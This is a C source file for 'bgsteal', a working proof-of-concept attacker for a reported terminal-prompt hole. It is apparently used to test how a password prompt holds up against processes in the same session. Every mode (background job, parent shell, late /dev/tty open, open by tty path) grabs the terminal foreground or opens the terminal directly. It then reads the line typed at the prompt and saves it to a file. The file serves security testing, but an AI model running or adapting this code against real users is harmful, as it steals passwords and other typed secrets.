/*
 * The attacker of issue 13, hole 2: a process of the person's own session
 * that holds the terminal, ignores SIGTTOU and SIGTTIN, waits until a
 * prompt takes the terminal (its termios says so), makes itself the
 * foreground process group (tcsetpgrp), reads the line typed for the
 * prompt, writes it to FILE and gives the foreground back.
 *
 *   bgsteal job FILE		run as a background job of a job-control
 *				shell ("bgsteal job FILE &")
 *   bgsteal parent FILE CMD...	as the shell itself would: runs CMD as a
 *				job of its own in the foreground, and
 *				takes the foreground from it mid-prompt
 *
 * Two more strike late, in the middle of a session (sessiond's relay),
 * holding no terminal before: started with no descriptor on it, they wait
 * until the file GO exists, then write FILE.took and read for up to 15 s,
 * appending what they get to FILE, until a line end:
 *   bgsteal tty FILE GO	a background job of the old shell: opens
 *				/dev/tty, makes itself the foreground group
 *				(tcsetpgrp), reads, gives the foreground back
 *   bgsteal path FILE GO TTY	any process of the user outside the
 *				terminal's session: opens TTY by its name
 *				(job control does not apply to it) and reads
 *
 * Exit status: job, tty, path: 0 a line was read, 1 none within 30 s
 * (15 s reading for tty and path); parent: CMD's status (128+N for a
 * signal); 2 usage, 3 a system call failed.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#define WAIT_STEPS 3000		/* 10 ms each */
#define PROMPT_SHOWN_US 300000	/* from termios set to the prompt on screen */
#define READ_ROUNDS 150		/* polls of at most 100 ms */

/* Waits until the terminal on fd 0 is set up for a prompt: canonical
 * input with ECHONL and TOSTOP, as libterm's prompt sets it (the mode
 * says nothing: a pty may be root's 0600 from the start; a shell's line
 * editor leaves ICANON off while it reads). Returns 0, or -1 when it was
 * not within 30 s. */
static int
wait_locked(void)
{
	tcflag_t want = ICANON | ECHONL | TOSTOP;
	struct termios t;
	int i;

	for (i = 0; i < WAIT_STEPS; i++) {
		if (tcgetattr(0, &t) == 0 && (t.c_lflag & want) == want)
			return 0;
		usleep(10000);
	}
	return -1;
}

/* Takes the foreground, reads one line into file, gives it back to the
 * group that had it. Returns 0 a line was read, 1 none. */
static int
steal(const char *file)
{
	char line[256];
	pid_t had = tcgetpgrp(0);
	ssize_t n;
	int fd, rc = 1;

	if (had < 0 || tcsetpgrp(0, getpgrp()) < 0) {
		perror("bgsteal: tcsetpgrp");
		return 3;
	}
	n = read(0, line, sizeof line);
	if (n > 0) {
		fd = open(file, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
		if (fd >= 0) {
			if (write(fd, line, (size_t)n) == n)
				rc = 0;
			close(fd);
		}
	}
	(void)tcsetpgrp(0, had);
	return rc;
}

/* Waits up to 30 s for the file go to exist. 0, or -1 when it did not. */
static int
wait_go(const char *go)
{
	for (int i = 0; i < WAIT_STEPS; i++) {
		if (access(go, F_OK) == 0)
			return 0;
		usleep(10000);
	}
	return -1;
}

/* Opens the terminal (/dev/tty and the foreground taken, or tty by its
 * name), says so in FILE.took, and reads for up to 15 s, appending each
 * read to file, until a line end. Returns 0 a line was read, 1 none, 3. */
static int
strike(const char *file, const char *tty)
{
	char took[4096], buf[256];
	pid_t had = -1;
	bool line = false, any = false;
	int fd, out, t;

	fd = open(tty ? tty : "/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (fd < 0) {
		perror("bgsteal: open");
		return 3;
	}
	if (tty == NULL && ((had = tcgetpgrp(fd)) < 0 || tcsetpgrp(fd, getpgrp()) < 0)) {
		perror("bgsteal: tcsetpgrp");
		return 3;
	}
	out = open(file, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
	snprintf(took, sizeof took, "%s.took", file);
	t = open(took, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	if (out < 0 || t < 0) {
		perror("bgsteal: FILE");
		return 3;
	}
	dprintf(t, "%d\n", (int)getpid());
	close(t);
	/* Waits in poll, as the relay does, so that each line typed is a
	 * race it can win; 150 rounds of at most 100 ms bound it. In the
	 * background again (SIGTTIN ignored) a read fails with EIO: it
	 * only keeps trying. */
	for (int i = 0; i < READ_ROUNDS && !line; i++) {
		struct pollfd p = { fd, POLLIN, 0 };
		ssize_t n;

		if (poll(&p, 1, 100) <= 0)
			continue;
		if ((n = read(fd, buf, sizeof buf)) <= 0) {
			if (n == 0 || errno != EIO)
				break;
			usleep(100000);
			continue;
		}
		any = true;
		(void)!write(out, buf, (size_t)n);
		line = memchr(buf, '\r', (size_t)n) || memchr(buf, '\n', (size_t)n);
	}
	if (had > 0)
		(void)tcsetpgrp(fd, had);
	close(out);
	return any ? 0 : 1;
}

int
main(int argc, char **argv)
{
	pid_t kid;
	int st, rc;

	if (argc < 3 || (strcmp(argv[1], "job") != 0 &&
			 strcmp(argv[1], "parent") != 0 && strcmp(argv[1], "tty") != 0 &&
			 strcmp(argv[1], "path") != 0) ||
	    (strcmp(argv[1], "parent") == 0 && argc < 4) ||
	    (strcmp(argv[1], "tty") == 0 && argc != 4) ||
	    (strcmp(argv[1], "path") == 0 && argc != 5)) {
		fputs("usage: bgsteal job FILE | bgsteal parent FILE CMD... |\n"
		      "       bgsteal tty FILE GO | bgsteal path FILE GO TTY\n", stderr);
		return 2;
	}
	signal(SIGTTOU, SIG_IGN);
	signal(SIGTTIN, SIG_IGN);
	if (strcmp(argv[1], "tty") == 0 || strcmp(argv[1], "path") == 0)
		return wait_go(argv[3]) < 0 ? 1 : strike(argv[2], argc == 5 ? argv[4] : NULL);
	if (strcmp(argv[1], "job") == 0)
		return wait_locked() < 0 ? 1 : steal(argv[2]);
	kid = fork();
	if (kid < 0)
		return 3;
	if (kid == 0) {
		if (setpgid(0, 0) < 0 || tcsetpgrp(0, getpgrp()) < 0)
			_exit(3);
		signal(SIGTTOU, SIG_DFL);
		signal(SIGTTIN, SIG_DFL);
		execvp(argv[3], argv + 3);
		_exit(127);
	}
	(void)setpgid(kid, kid);
	/* Past the prompt's own checks, once it shows: mid-prompt. */
	if (wait_locked() == 0 && usleep(PROMPT_SHOWN_US) == 0)
		(void)steal(argv[2]);
	while ((rc = waitpid(kid, &st, 0)) < 0 && errno == EINTR)
		;
	(void)tcsetpgrp(0, getpgrp());
	if (rc < 0)
		return 3;
	return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}
